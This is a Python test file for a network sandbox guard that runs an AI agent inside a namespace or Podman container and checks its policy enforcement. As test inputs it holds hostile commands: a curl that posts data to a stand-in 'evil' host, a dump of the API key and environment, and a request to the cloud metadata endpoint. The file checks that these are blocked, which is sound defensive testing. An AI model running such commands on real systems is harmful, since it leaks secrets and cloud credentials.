# SPDX-License-Identifier: Apache-2.0
"""LangChain's pattern "agent in sandbox": a deep agent lives in a guarded namespace or container, and others talk to the API that its
policy exposes."""
import json
import os
import shutil
import subprocess
import time
import unittest
import urllib.error
import urllib.request

import guests
import support
from daemon import Daemon
from support import HTTP, NETWORK, SECRET, SLOW, file_credential, policy, wait_until
from test_deepagents import HERE, PACKAGES, RULES

PORT, AT = 8080, 9480
EXPOSE = f"expose:\n  - {{name: api, port: {PORT}, from: [host], at: '127.0.0.1:{AT}'}}\n"


@unittest.skipUnless(shutil.which("node") and os.path.isdir(PACKAGES), "needs node and the packages that make check-providers installs")
class InNamespace(unittest.TestCase):
    def setUp(self):
        self.daemon = Daemon()
        self.addCleanup(self.daemon.end)
        self.folder = support.LAB.path(f"inside-{time.monotonic_ns()}")
        os.makedirs(self.folder)
        os.chmod(self.folder, 0o755)
        shutil.copy(os.path.join(HERE, "deep", "server.mjs"), self.folder)
        shutil.copytree(PACKAGES, os.path.join(self.folder, "node_modules"), symlinks=True)
        self.work = os.path.join(self.folder, "work")
        os.mkdir(self.work)
        os.chmod(self.work, 0o777)
        self.policy = support.LAB.write(f"inside-{time.monotonic_ns()}.yaml", policy(*RULES, credentials=file_credential(), more=EXPOSE))
        self.guard()
        bundle = os.path.join(self.folder, "bundle.pem")
        shutil.copy(os.path.join(self.daemon.data, "ca", "root.pem"), bundle)
        os.chmod(bundle, 0o644)
        r = self.daemon.cli("env", "inside", "--format", "json", "--ca", self.inside("bundle.pem"), "--ca-bundle", self.inside("bundle.pem"))
        self.assertEqual(r.returncode, 0, r)
        self.env = json.loads(r.stdout)
        self.assertNotIn(SECRET, r.stdout)
        self.start()

    def guard(self):
        self.netns = support.netns(self, f"inside{time.monotonic_ns()}")
        support.sh("ip", "-n", self.netns, "link", "set", "lo", "up")
        self.daemon.attach(name="inside", policy=self.policy, netns=f"/run/netns/{self.netns}")

    def inside(self, name):
        """Where a file of the folder is in the sandbox."""
        return os.path.join(self.folder, name)

    def command(self, *argv):
        return ["ip", "netns", "exec", self.netns, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env", "-i",
                f"PATH={os.environ['PATH']}", f"HOME={self.work}", *(f"{k}={v}" for k, v in self.env.items()), *argv], None

    def start(self):
        argv, env = self.command("node", self.inside("server.mjs"), str(PORT), self.inside("work"))
        with open(os.path.join(self.folder, "errors"), "wb") as errors:
            server = subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=errors)
        self.addCleanup(server.stdout.close)
        self.addCleanup(server.wait)
        self.addCleanup(server.kill)
        said = server.stdout.readline()
        with open(errors.name) as f:
            self.assertEqual(said, b"ready\n", f.read())

    def ask(self, *commands, at=AT):
        request = urllib.request.Request(f"http://127.0.0.1:{at}/ask", json.dumps({"commands": commands}).encode())
        with urllib.request.urlopen(request, timeout=120 * SLOW) as answer:
            return json.load(answer)

    def test_agent(self):
        answer = self.ask('curl -sS https://api.lab.test/whoami -H "Authorization: Bearer $API_KEY"', 'id -u; echo "$API_KEY"; env',
                          "curl -sS -d stolen https://evil.lab.test/", "curl -sS -X DELETE https://api.lab.test/x",
                          "curl -sS -m 3 http://169.254.169.254/latest/", "echo note > note.txt; cat note.txt")
        self.assertNotIn("error", answer)
        allowed, identity, evil, method, metadata, note = answer["outputs"]
        self.assertEqual((answer["last"], answer["thought"]), ("done", [True] * 7))  # its model took the key that it does not have
        self.assertIn('"authenticated": true', allowed)
        self.assertTrue(self.env["API_KEY"] and self.env["API_KEY"] in identity)
        self.assertNotIn(SECRET, json.dumps(answer))
        for refused in (evil, method, metadata):
            self.assertIn("urn:vethguard:problem:denied", refused)
        self.assertIn("note", note)
        visit = self.daemon.event(NETWORK, **{"connection_info.direction_id": 1, "action_id": 1})
        self.assertEqual((visit["firewall_rule"]["name"], visit["dst_endpoint"]["port"]), ("api", PORT))
        self.assertTrue(self.daemon.event(HTTP, action_id=1, **{"http_request.url.path": "/whoami"}))
        self.assertIn("evil.lab.test", json.dumps(self.daemon.events()))

    def test_end(self):
        """Nobody talks to an agent whose guard has ended, or who is paused."""
        self.assertEqual(self.ask()["last"], "done")
        self.assertEqual(self.daemon.call("POST", "/v1/sandboxes/inside/pause", {})[0], 200)
        with self.assertRaises((urllib.error.URLError, OSError)):
            self.ask()
        self.assertEqual(self.daemon.call("POST", "/v1/sandboxes/inside/resume", {})[0], 200)
        self.assertTrue(wait_until(self.answers))
        self.assertEqual(self.daemon.call("DELETE", "/v1/sandboxes/inside")[0], 200)
        with self.assertRaises((urllib.error.URLError, OSError)):
            self.ask()

    def answers(self):
        try:
            return self.ask()["last"] == "done"
        except OSError:
            return False


@unittest.skipUnless(shutil.which("podman"), "podman is not installed")
class InContainer(InNamespace):
    """A container of Podman's without a network of its own, which runs this machine's node."""

    def guard(self):
        self.engine = guests.Engine("podman")
        self.addCleanup(self.engine.stop)
        libraries = os.path.dirname(os.path.realpath(next(w for w in support.sh("ldd", shutil.which("node")).split() if "libc.so" in w and "/" in w)))
        self.engine.run("inside", "--network", "none", "-v", "/usr:/usr:ro", "-v", f"{libraries}:/lib/{os.path.basename(libraries)}:ro",
                        "-v", f"{self.folder}:/agent")
        r = self.daemon.cli("attach", "--container", "inside", "--policy", self.policy, "--engine", "podman", env=self.engine.env)
        self.assertEqual(r.returncode, 0, r)

    def inside(self, name):
        return "/agent/" + name

    def command(self, *argv):
        variables = [f"--env={k}={v}" for k, v in {**self.env, "HOME": "/agent/work", "PATH": "/usr/bin:/bin"}.items()]
        return ["podman", "exec", "--user", "65534", *variables, "inside", *argv], self.engine.env
